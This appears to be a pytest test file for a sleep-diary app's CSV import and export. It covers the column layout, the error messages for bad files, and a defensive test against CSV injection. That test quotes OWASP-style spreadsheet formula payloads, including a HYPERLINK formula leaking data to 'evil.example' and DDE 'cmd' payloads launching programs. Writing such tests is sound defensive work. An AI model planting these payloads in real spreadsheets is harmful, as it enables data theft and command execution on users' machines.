"""CSV layout and the messages for a bad file (SQLite in memory: the format is the subject)."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Iterator

import pytest

from nightlegs.diary import NightIn, ProfileIn, SqlDiaryStore, export_csv, import_csv, open_store
from nightlegs.diary.csv_io import CSV_COLUMNS
from nightlegs.errors import InputError

HEADER = ",".join(CSV_COLUMNS)


@pytest.fixture
def memory_store() -> Iterator[SqlDiaryStore]:
    with open_store("sqlite://") as store:
        yield store


def test_export_layout(memory_store: SqlDiaryStore, make_night: Callable[..., NightIn]) -> None:
    memory_store.create_night(make_night(2, movements_per_hour=12.5, notes='said "ouch", twice'))
    memory_store.create_night(make_night(1, episodes=[]))
    lines = export_csv(memory_store).split("\r\n")
    assert lines == [
        HEADER,
        "1,2024-05-01,22:45:00,06:30:00,6,,,,,,,,,,",
        '2,2024-05-02,22:45:00,06:30:00,6,12.5,,,"said ""ouch"", twice",02:10:00,left,calf,'
        "cramp,7,stretching",
        "",
    ]


def test_import_by_hand_groups_rows_and_fills_blanks(memory_store: SqlDiaryStore) -> None:
    text = (
        "Date,Night,Kind,Side,Body_Site,Intensity,Notes\n"
        "2024-05-01,a,cramp,left,calf,7,bad night\n"
        ",a,pain,right,foot,3,\n"  # the night's fields may be left blank on later rows
        "2024-05-02,,,,,,\n"
        "\n"
        "2024-05-03,,numbness,both,toes,2,\n"
    )
    assert import_csv(memory_store, "\ufeff" + text) == 3
    nights = memory_store.list_nights()
    assert [(n.date.day, n.notes, [e.kind for e in n.episodes]) for n in nights] == [
        (1, "bad night", ["cramp", "pain"]),
        (2, None, []),
        (3, None, ["numbness"]),
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "line 1: the CSV is empty"),
        ("date,colour\n", "line 1: unknown column 'colour'; expected columns: night, date"),
        ("night,notes\n", "line 1: the column 'date' is missing"),
        ("date,date\n", "line 1: column 'date' appears more than once"),
        ("date,notes\n2024-05-01\n", "line 2: expected 2 cells like the header, got 1"),
        ("date\n2024-02-30\n", "line 2, column 'date': Input should be a valid date"),
        (
            "date,sleep_quality\n2024-05-01,great\n",
            "line 2, column 'sleep_quality': Input "
            "should be a valid integer, unable to parse string as an integer (got 'great')",
        ),
        (
            "date,kind,side,body_site,intensity\n2024-05-01,cramp,left,calf,7\n"
            "2024-05-02,cramp,left,calf,11\n",
            "line 3, column 'intensity': Input should be less than or equal to 10 (got '11')",
        ),
        (
            "date,kind,side\n2024-05-01,cramp,left\n",
            "line 2, column 'body_site': expected a value since the row has an episode",
        ),
        (
            "night,date,kind,side,body_site,intensity,episode_time\n"
            '1,2024-05-01,cramp,left,calf,7,02:00\n1,2024-05-01,cramp,left,calf,7,"2 am"\n',
            "line 3, column 'episode_time': Input should be in a valid time format",
        ),
        (
            "night,date\n1,2024-05-01\n1,2024-05-02\n",
            "line 3, column 'date': expected the same value as line 2 for night '1' "
            "('2024-05-01'), got '2024-05-02'",
        ),
        ("date,bedtime\n2024-05-01,23:00+01:00\n", "line 2: night.bedtime: expected a local"),
        ('date,notes\n2024-05-01,"unterminated\n', "not valid CSV"),
    ],
)
def test_import_errors_name_line_column_and_expectation(
    memory_store: SqlDiaryStore, text: str, message: str
) -> None:
    memory_store.create_night(NightIn(date=dt.date(2020, 1, 1)))
    with pytest.raises(InputError) as caught:
        import_csv(memory_store, text, replace=True)
    assert message in str(caught.value)
    assert len(memory_store.list_nights()) == 1  # nothing imported, nothing replaced


def test_replace_keeps_the_profile(memory_store: SqlDiaryStore) -> None:
    memory_store.put_profile(ProfileIn(age=61))
    memory_store.create_night(NightIn(date=dt.date(2020, 1, 1)))
    assert import_csv(memory_store, "date\n2024-05-01\n", replace=True) == 1
    assert [n.date.year for n in memory_store.list_nights()] == [2024]
    profile = memory_store.get_profile()
    assert profile is not None
    assert profile.age == 61


# Formula payloads of the OWASP "CSV injection" page and the attack run.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "'",
    "''",
    "=",
    "DDE ok =1+1",
    "a-b",
]


def test_formula_cells_are_neutralised_and_restored(
    memory_store: SqlDiaryStore, make_night: Callable[..., NightIn]
) -> None:
    import csv
    import io

    from nightlegs.diary import EpisodeIn

    for day, text in enumerate(FORMULAS, start=1):
        episode = EpisodeIn(side="left", body_site=text, kind="cramp", intensity=3, helped=text)
        memory_store.create_night(make_night(day, notes=text, episodes=[episode]))
    exported = export_csv(memory_store)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("notes", "body_site", "helped"):
            assert not row[column].startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), row
    with open_store("sqlite://") as again:
        assert import_csv(again, exported) == len(FORMULAS)
        assert again.export_diary() == memory_store.export_diary()
        assert export_csv(again) == exported
